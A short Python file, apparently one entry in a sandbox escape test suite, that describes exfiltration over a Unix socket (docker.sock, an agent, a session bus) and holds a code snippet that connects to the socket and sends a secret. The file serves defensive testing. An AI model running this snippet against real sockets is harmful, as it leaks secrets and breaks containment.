"""Attack 201: unix socket"""

IDEA = "A socket file: docker.sock, an agent, a session bus."
SOURCE = "unix(7)"
WAY = "outside/network/unix sockets"
CODE = """
import socket

s = socket.socket(socket.AF_UNIX)
s.connect(T["unix"])
s.sendall(SECRET.encode())
"""
ABSENT = ["SECRET"]
WAIT = 0.2
